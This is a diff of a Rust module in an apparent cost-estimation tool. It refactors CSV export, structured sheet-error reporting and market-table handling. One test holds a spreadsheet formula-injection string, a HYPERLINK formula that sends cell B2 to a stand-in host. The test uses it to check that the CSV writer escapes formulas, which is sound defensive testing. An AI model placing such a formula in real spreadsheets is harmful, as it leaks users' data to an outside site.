@@ -5,13 +5,15 @@
 mod read;
 
 pub use read::{
-    check_file_size, import_csv, paste, Note, MAX_LISTED, MAX_SHEET_BYTES, MAX_SHEET_ROWS,
+    check_file_size, import_csv, paste, SheetNote, SheetProblem, SheetProblemKind, SheetProblems,
+    Source, MAX_LISTED, MAX_SHEET_BYTES, MAX_SHEET_ROWS,
 };
 
-use crate::state::{Dest, Draft};
+use crate::draft::{Dest, Draft, Line};
 use chrono::NaiveDate;
 use wacost_core::catalog::markets::MarketTable;
 use wacost_core::csv;
+use wacost_core::scenario::Setting;
 use wacost_core::Catalog;
 
 /// The market table for the draft's month (the latest one when the month is not valid yet), so
@@ -19,12 +21,23 @@ use wacost_core::Catalog;
 pub fn table_for(draft: &Draft) -> &'static MarketTable {
     let catalog = Catalog::builtin();
     let date = draft
-        .get("month")
+        .get(Setting::Month)
         .trim()
         .split_once('-')
         .and_then(|(y, m)| NaiveDate::from_ymd_opt(y.parse().ok()?, m.parse().ok()?, 1))
         .unwrap_or(NaiveDate::MAX);
     catalog.market_table_on(date)
+}
+
+/// A market table as a component's property: there is one per date, so two are the same
+/// table exactly when they are at the same address.
+#[derive(Debug, Clone, Copy)]
+pub struct Table(pub &'static MarketTable);
+
+impl PartialEq for Table {
+    fn eq(&self, other: &Table) -> bool {
+        std::ptr::eq(self.0, other.0)
+    }
 }
 
 /// One suggestion of the destination picker.
@@ -155,7 +168,7 @@ pub fn describe(table: &MarketTable, dest: &Dest) -> (String, String) {
 /// The sheet as CSV: `destination,marketing,utility,authentication,service`, a destination
 /// being an ISO code or a market name. Written by core's CSV writer, so a market name a link
 /// brought in cannot become a spreadsheet formula.
-pub fn export_csv(draft: &Draft) -> String {
+pub fn export_csv(lines: &[Line]) -> String {
     let mut out = csv::record([
         "destination",
         "marketing",
@@ -163,7 +176,7 @@ pub fn export_csv(draft: &Draft) -> String {
         "authentication",
         "service",
     ]);
-    for line in &draft.lines {
+    for line in lines {
         let dest = match &line.dest {
             Dest::Country(iso) | Dest::Market(iso) => iso.as_str(),
         };
@@ -247,7 +260,7 @@ mod tests {
     #[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
     fn csv_round_trips_and_reports_unknowns() {
         let draft = Draft::default_scenario("2026-11");
-        let csv = export_csv(&draft);
+        let csv = export_csv(&draft.lines);
         assert!(csv.starts_with(
             "destination,marketing,utility,authentication,service\nIN,1000,5000,2000,3000\n"
         ));
@@ -265,7 +278,16 @@ mod tests {
             Locale::En,
         )
         .unwrap_err();
-        assert_eq!(err, "line 2: `Atlantis` is not a country or market");
+        assert_eq!(
+            err.problems,
+            [SheetProblem {
+                line: 2,
+                column: 0,
+                kind: SheetProblemKind::NotADestination {
+                    text: "Atlantis".into()
+                }
+            }]
+        );
     }
 
     #[cfg_attr(not(target_arch = "wasm32"), test)]
@@ -277,7 +299,7 @@ mod tests {
             ["@1", "+919876543210", "-2", " 12 "],
         );
         assert_eq!(
-            export_csv(&draft),
+            export_csv(&draft.lines),
             "destination,marketing,utility,authentication,service\n\
              \"'=HYPERLINK(\"\"https://x.example/?\"\"&B2,\"\"rates\"\")\",'@1,+919876543210,-2,12\n"
         );
